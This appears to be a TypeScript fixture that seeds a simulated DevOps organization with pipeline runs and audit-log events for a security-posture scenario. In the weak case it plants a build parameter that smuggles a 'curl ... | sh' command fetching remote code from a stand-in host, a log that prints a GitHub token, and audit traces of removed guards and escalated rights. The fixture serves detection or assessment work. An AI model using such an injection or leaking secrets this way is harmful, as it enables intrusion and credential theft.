/** What happened in the two organizations: runs with their timelines and logs, uses of the connection, events of the audit log. */
import { type AuditEvent, recordAudit } from "../../administration/audit-events.ts";
import { buildNotes } from "../../build/build-notes.ts";
import { describeRun, type RanStage } from "../../build/describe-run.ts";
import { queueBuild } from "../../build/queue-build.ts";
import { addCommit } from "../../build-world.ts";
import { resolveRef } from "../../git/repository-store.ts";
import type { BuildState, User } from "../../world.ts";
import type { PostureGround } from "./build-ground.ts";

const day = 86_400_000;

export interface PostureTraces {
  /** Of the default branch, by somebody who contributes. */
  readonly usualRun: BuildState;
  /** Weak only: of a branch nobody reviewed, by a guest, past a stage that was skipped. */
  readonly oddRun?: BuildState;
}

interface RunTold {
  readonly by: User;
  readonly daysAgo: number;
  readonly branch: string;
  readonly commit: string;
  readonly reason: string;
  readonly parameters?: Readonly<Record<string, string>>;
  readonly stages: readonly RanStage[];
}

/** A run that ended; nobody is told of it. */
function recordRun({ world, organization, definitions, resources }: PostureGround, told: RunTold): BuildState {
  const at = new Date(world.clock.now().getTime() - told.daysAgo * day);
  const { shop } = definitions;
  const build = queueBuild(world, organization, shop, {
    requestedBy: told.by.id,
    sourceBranch: `refs/heads/${told.branch}`,
    sourceVersion: told.commit,
    reason: told.reason,
    queueTime: at,
    ...(told.parameters ? { parameters: JSON.stringify(told.parameters) } : {}),
  });
  Object.assign(build, {
    status: "completed",
    result: "succeeded",
    startTime: at,
    finishTime: new Date(at.getTime() + 90_000),
  });
  buildNotes(build).lastChangedDate = at;
  buildNotes(build).run = describeRun(`run ${organization.id} ${build.id}`, told.stages);
  resources.connection.executions.push({
    id: build.id,
    planType: "Build",
    definition: { id: shop.id, name: shop.name },
    owner: { id: build.id, name: build.buildNumber },
    startTime: at,
    result: "succeeded",
  });
  return build;
}

const azureCli = { id: "46e4be58-730b-4389-8a2f-ea10b3e5e815", name: "AzureCLI", version: "2.263.0" };

function stagesOf(scan: RanStage["result"], log: readonly string[]): readonly RanStage[] {
  const approval = { is: "Approval", result: "succeeded" } as const;
  return [
    { name: "Build", jobs: [{ name: "Build", worker: "build-01", tasks: [{ name: "Build", log }] }] },
    { name: "Scan", ...(scan ? { result: scan } : {}), jobs: [] },
    {
      name: "Production",
      checks: [approval, { is: "Authorization", result: "succeeded" }],
      jobs: [
        {
          name: "Deploy",
          worker: "build-01",
          tasks: [{ name: "Deploy", task: azureCli, log: ["az webapp up", "done"] }],
        },
      ],
    },
  ];
}

export async function leaveTraces(ground: PostureGround): Promise<PostureTraces> {
  const { world, organization, repositories, people, posture, secrets } = ground;
  const main = (await resolveRef(world, repositories.shop.id, "refs/heads/main")) ?? "";
  const usualRun = recordRun(ground, {
    by: people.devi,
    daysAgo: 5,
    branch: "main",
    commit: main,
    reason: "individualCI",
    stages: stagesOf(undefined, ["npm test", "42 passing"]),
  });
  if (posture === "strong") return { usualRun };
  const commit = await addCommit(world, organization, repositories.shop, people.devi, {
    branch: "feature/hotfix",
    from: "main",
    message: "Deploy the hotfix at once",
    files: { "deploy.sh": "#!/bin/sh\nenv\naz webapp up --name shop\n" },
  });
  const oddRun = recordRun(ground, {
    by: people.gus,
    daysAgo: 1,
    branch: "feature/hotfix",
    commit,
    reason: "manual",
    parameters: { "System.Debug": "true", Channel: "stable; curl http://tools.wavecrest.example/x | sh" },
    stages: stagesOf("skipped", ["env", `GITHUB_TOKEN=${secrets.githubToken}`]),
  });
  tellAudit(ground);
  return { usualRun, oddRun };
}

/** Guards that were taken away, rights that were gained, a pipeline that came and went within the hour. */
function tellAudit({ world, organization, projects, people, resources, definitions }: PostureGround): void {
  const now = world.clock.now().getTime();
  const tell = (
    minutesAgo: number,
    user: User,
    actionId: string,
    category: AuditEvent["category"],
    details: string,
    data: Readonly<Record<string, unknown>>,
  ) =>
    recordAudit(world, organization, user, {
      at: new Date(now - minutesAgo * 60_000),
      actionId,
      area: actionId.split(".")[0] ?? "",
      category,
      projectId: projects.payments.id,
      details,
      data,
    });
  const { olaf, gus, devi } = people;
  const pipeline = { PipelineId: 9001, PipelineName: "try-out" };
  tell(300, olaf, "Policy.PolicyConfigRemoved", "remove", "Build policy was removed from shop", {
    PolicyTypeDisplayName: "Build",
    RepoName: "shop",
  });
  tell(290, olaf, "CheckConfiguration.Deleted", "remove", "Approval was removed from the connection production", {
    Type: "Approval",
    ResourceType: "endpoint",
    ResourceId: resources.connection.id,
    ResourceName: resources.connection.name,
  });
  tell(
    280,
    olaf,
    "Group.UpdateGroupMembership.Add",
    "modify",
    "Gus Partner was added to Project Collection Administrators",
    {
      GroupName: `[${organization.name}]\\Project Collection Administrators`,
      MemberDisplayName: gus.displayName,
      MemberId: gus.id,
    },
  );
  tell(200, gus, "Extension.Installed", "create", "Deploy kit was installed", {
    PublisherName: "quick-tools",
    ExtensionName: "deploy-kit",
  });
  tell(120, gus, "Pipelines.PipelineCreated", "create", "try-out was created", pipeline);
  tell(118, gus, "Pipelines.ResourceAuthorizedForPipeline", "modify", "try-out may use production", {
    ...pipeline,
    ResourceType: "endpoint",
    ResourceId: resources.connection.id,
  });
  tell(110, gus, "Library.ServiceConnectionExecuted", "execute", "production was used by try-out", {
    ConnectionId: resources.connection.id,
    ConnectionName: resources.connection.name,
    PipelineId: 9001,
    PipelineName: "try-out",
  });
  tell(90, gus, "Pipelines.PipelineDeleted", "remove", "try-out was deleted", pipeline);
  tell(60, devi, "Library.ServiceConnectionExecuted", "execute", "production was used by shop", {
    ConnectionId: resources.connection.id,
    ConnectionName: resources.connection.name,
    PipelineId: definitions.shop.id,
    PipelineName: definitions.shop.name,
  });
}
